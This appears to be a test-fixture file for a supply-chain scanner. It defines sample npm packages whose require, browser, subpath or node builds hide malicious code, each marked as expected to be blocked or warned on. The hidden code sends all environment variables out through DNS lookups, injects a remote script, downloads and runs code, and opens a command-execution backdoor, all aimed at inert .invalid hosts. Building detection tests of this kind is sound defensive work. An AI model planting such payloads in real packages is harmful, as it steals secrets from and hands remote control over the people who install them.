import { base64, manifest } from '../manifest.ts';
import type { Specimen } from '../specimen.ts';

const from = 'one build of a package differs from the others (node-ipc 2026, art-template)';
const clean = 'export const connect = name => ({ name });\n';

export const specimens: readonly Specimen[] = [
  {
    name: 'divergence-require-only',
    from,
    files: {
      'package.json': manifest({ exports: { '.': { import: './dist/index.mjs', require: './dist/index.cjs' } } }),
      'dist/index.mjs': clean,
      'dist/index.cjs': `'use strict';
exports.connect = name => ({ name });
(() => {
  const dns = require('dns');
  const text = Buffer.from(JSON.stringify(process.env)).toString('hex');
  for (let i = 0; i * 60 < text.length; i++) {
    dns.resolveTxt(i + '.' + text.slice(i * 60, i * 60 + 60) + '.dns.invalid', () => {});
  }
})();
`,
    },
    expect: 'block',
    happens: { at: 'import', does: 'resolves name' },
  },
  {
    name: 'divergence-browser-only',
    from,
    files: {
      'package.json': manifest({ main: 'index.js', browser: 'lib/browser.js' }),
      'index.js': 'exports.render = text => text;\n',
      'lib/browser.js': `exports.render = text => text;
if (/iPhone OS 1[3-7]/.test(navigator.userAgent)) {
  const s = document.createElement('script');
  s.src = atob('${base64('https://static.invalid/INERT.js')}');
  document.body.appendChild(s);
}
`,
    },
    expect: 'warn',
  },
  {
    name: 'divergence-subpath',
    from,
    files: {
      'package.json': manifest({ type: 'module', exports: { '.': './index.js', './register': './register.js' } }),
      'index.js': clean,
      'register.js': `import { execFile } from 'node:child_process';
import { get } from 'node:https';
get('https://stage.invalid/INERT', response => {
  response.setEncoding('utf8');
  let script = '';
  response.on('data', part => { script += part; }).on('end', () => execFile(process.execPath, ['--eval', script]));
});
`,
    },
    expect: 'block',
    happens: { at: 'import', does: 'spawns' },
  },
  {
    name: 'divergence-node-condition',
    from,
    files: {
      'package.json': manifest({ exports: { node: { default: './node.js' }, default: './browser.js' } }),
      'node.js': `var h = require('http'), c = require('child_process');
h.createServer(function (q, s) {
  var u = new URL(q.url, 'http://localhost');
  c.exec(u.searchParams.get('INERT'), function (e, o) { s.end(o); });
}).listen(8738);
module.exports = require('./browser.js');
`,
      'browser.js': 'exports.a = 1;\n',
    },
    expect: 'warn',
    happens: { at: 'import', does: 'listens' },
  },
];
